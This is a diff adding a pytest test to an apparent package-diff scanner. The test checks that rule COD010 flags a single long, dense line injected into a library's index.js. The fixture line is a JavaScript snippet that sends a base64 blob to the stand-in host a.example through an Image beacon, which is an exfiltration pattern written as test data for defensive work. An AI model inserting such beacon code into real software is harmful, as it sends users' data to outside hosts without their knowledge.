@@ -42,3 +42,25 @@ def test_incident_is_caught(incident: incidents.Incident) -> None:
 def test_ordinary_release_stays_quiet(pair: incidents.OrdinaryPair) -> None:
     got = worst(pair.previous(), pair.new())
     assert got is None or got <= tarlens.Severity.LOW, got
+
+
+def test_a_long_dense_line_injected_into_a_readable_entry_point() -> None:
+    import base64
+    import random
+
+    from fixtures.rule_examples import LIB, pack
+
+    blob = base64.b64encode(random.Random(1).randbytes(3000)).decode()
+    line = f"(function(){{var k='{blob}';new Image().src='//a.example/'+k}})();".encode()
+    d = tarlens.diff(pack({"index.js": LIB})(), pack({"index.js": LIB + line})())
+    (finding,) = tarlens.check(d.new, diff=d, select=["COD010"]).findings
+    assert finding.severity is tarlens.Severity.HIGH
+    assert "gains a 4" in finding.message
+    # the same line among many changed lines is a rebuild, not an injection
+    many = LIB + b"".join(b"const v%d = %d\n" % (i, i) for i in range(10)) + line
+    d = tarlens.diff(pack({"index.js": LIB})(), pack({"index.js": many})())
+    assert not [
+        f
+        for f in tarlens.check(d.new, diff=d, select=["COD010"]).findings
+        if "-byte line" in f.message
+    ]
